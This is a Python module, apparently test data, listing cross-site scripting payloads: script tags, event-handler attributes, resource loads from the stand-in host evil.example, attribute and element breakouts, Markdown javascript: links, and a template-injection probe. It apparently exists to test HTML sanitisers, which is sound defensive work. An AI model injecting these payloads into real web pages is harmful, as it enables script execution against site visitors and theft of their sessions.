"""Texts that would run a script, or fetch something from elsewhere, if a page took them for its own."""

from __future__ import annotations

RAW = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/1></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>fetch('//evil.example/2')</script>",
    "<script>location='//evil.example/3'</script>",
    "<script>import('//evil.example/4')</script>",
    "<script type=module src=//evil.example/5></script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=//evil.example/6>",
    "<img srcset='//evil.example/7 1x'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=//evil.example/8></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=//evil.example/9></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=//evil.example/10></object>",
    "<embed src=//evil.example/11>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=//evil.example/12></video>",
    "<audio src=//evil.example/13 autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<link rel=stylesheet href=//evil.example/14>",
    "<link rel=preload as=image href=//evil.example/15>",
    "<style>@import'//evil.example/16'</style>",
    "<style>*{background:url(//evil.example/17)}</style>",
    "<p style=background:url(//evil.example/18)>x</p>",
    "<meta http-equiv=refresh content='0;//evil.example/19'>",
    "<math><mtext><img src=x onerror=alert(1)></math>",
    "<noscript><img title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style=animation:x onanimationstart=alert(1)><style>@keyframes x{}</style>",
    "</p><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<xss contenteditable autofocus onfocus=alert(1)>x",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
)
"""Alive wherever a text is put between tags as it is."""
ESCAPING = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
)
"""Out of an attribute, or out of an element that has only text."""
SPEAKING = (
    "[here](javascript:alert(1))",
    "![x](//evil.example/20)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`</code><img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "{{ self.__init__.__globals__ }}{% raw %}",
)
"""Of Markdown, of entities, and of templates."""
PAYLOADS = RAW + ESCAPING + SPEAKING
